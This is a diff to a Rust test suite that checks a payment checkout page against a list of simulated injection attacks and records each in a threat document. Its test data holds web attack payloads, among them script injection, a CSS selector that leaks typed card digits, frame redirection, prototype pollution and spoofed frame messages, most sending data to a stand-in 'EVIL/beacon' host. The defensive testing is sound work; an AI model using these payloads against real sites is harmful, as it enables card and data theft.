@@ -66,7 +66,7 @@ const fn script(name: &'static str, script: &'static str, end: End) -> Attack {
 }
 
 /// `EVIL` is another site, `PROVIDER` the provider, `STRANGER` an order of another merchant. Whoever gets through sets `pwned`, or asks `EVIL/beacon`.
-const ATTACKS: [Attack; 31] = [
+const ATTACKS: [Attack; 38] = [
     markup("an inline script", "<script>window.pwned = 1</script>", Blocked("script-src")),
     markup("an inline handler", "<img src=/icon.svg onerror='window.pwned = 1'>", Blocked("script-src")),
     markup("an inline module", "<script type=module>import 'EVIL/evil.js'</script>", Blocked("script-src")),
@@ -91,6 +91,8 @@ const ATTACKS: [Attack; 31] = [
     markup("a plug-in", "<object data=EVIL/beacon></object>", Blocked("object-src")),
     markup("a foreign style sheet", "<link rel=stylesheet href=EVIL/beacon>", Blocked("style-src")),
     markup("a style that hides the frame", "<style>farthing-checkout { opacity: 0 }</style>", Blocked("style-src")),
+    markup("a style that reads what is typed", "<style>input[value^='4'] { background: url(EVIL/beacon) }</style>", Blocked("style-src")),
+    markup("an element that takes the script's name", "<img name=currentScript src=/icon.svg>", Blocked("finds its provider by its own address")),
     markup("an overlay in the markup", "<div style='position: fixed; inset: 0; opacity: 0'></div>", Blocked("style-src")),
     markup("an image that carries something away", "<img src=EVIL/beacon?4242>", Blocked("img-src")),
     script("markup made of text", "document.body.innerHTML = '<b>x</b>'; window.pwned = 1", Blocked("TrustedHTML")),
@@ -103,6 +105,9 @@ const ATTACKS: [Attack; 31] = [
     ),
     script("a request to another site", "fetch('EVIL/beacon').catch(() => {})", Blocked("connect-src")),
     script("a beacon to another site", "navigator.sendBeacon('EVIL/beacon', 'x')", Blocked("connect-src")),
+    script("a service worker", "navigator.serviceWorker.register('/evil.js').catch((error) => console.error(String(error)))", Blocked("TrustedScriptURL")),
+    script("a frame whose address is changed", "frame.src = 'EVIL/beacon'", Blocked("frame-src")),
+    script("a frame that is led elsewhere", "frame.contentWindow.location = 'EVIL/beacon'", Blocked("frame-src")),
     script("a form of another merchant", "pay.setAttribute('order', 'STRANGER')", Blocked("frame-ancestors")),
     script(
         "messages that pretend to be the frame",
@@ -120,6 +125,25 @@ const ATTACKS: [Attack; 31] = [
     ),
     script("a false “Paid”", "pay.complete('paid')", InVain),
     script("a hand in the frame", "frame.contentDocument.body.append('x'); window.pwned = 1", InVain),
+    script(
+        "objects that all have more in them",
+        "for (const name of ['type', 'token', 'order', 'code', 'outcome']) Object.prototype[name] = 'STRANGER';
+         addEventListener('farthing-token', () => (window.pwned = 1));
+         pay.reset()",
+        InVain,
+    ),
+    script(
+        "a frame beside it that a script talks to",
+        "const own = document.createElement('iframe'), { port1, port2 } = new MessageChannel();
+         own.src = frame.src;
+         port1.onmessage = ({ data }) => { if (data.includes('ready')) window.pwned = 1; };
+         own.onload = () => {
+           own.contentWindow.postMessage({ farthing: 1, type: 'connect' }, 'PROVIDER', [port2]);
+           port1.postMessage(JSON.stringify({ type: 'order', order: 'STRANGER' }));
+         };
+         document.body.append(own)",
+        InVain,
+    ),
     script("a second checkout", "document.body.append(pay.cloneNode()); delete window.pwned", InVain),
     script(
         "a form of its own",
@@ -146,6 +170,16 @@ fn whoever_gets_into_the_page_gets_no_further() {
         let recipe = Recipe::read(world).await;
         for attack in &ATTACKS {
             println!("{}", attack.name);
+            let ends = match attack.end {
+                Blocked(_) => "blocked",
+                InVain => "in vain",
+                Done(_) => "**done**",
+            };
+            let row = format!(
+                "| {} | {ends} | `tests/strict/attacks.rs` whoever_gets_into_the_page_gets_no_further |",
+                attack.name
+            );
+            assert!(threats.contains(&row), "docs/THREATS.md has no row: {row}");
             let (console, beacons) = (world.browser.console().len(), evil.beacons());
             attack.run(world, &recipe, &evil).await;
             let through = async || {
@@ -246,8 +280,8 @@ impl Attack {
                 .replace("STRANGER", &strange)
         };
         let page = recipe.page(&order);
-        // A base counts before what it is for.
-        let place = if self.markup.starts_with("<base") {
+        // These count before what they are for.
+        let place = if self.markup.starts_with("<base") || self.markup.contains("currentScript") {
             "<meta"
         } else {
             "</body>"
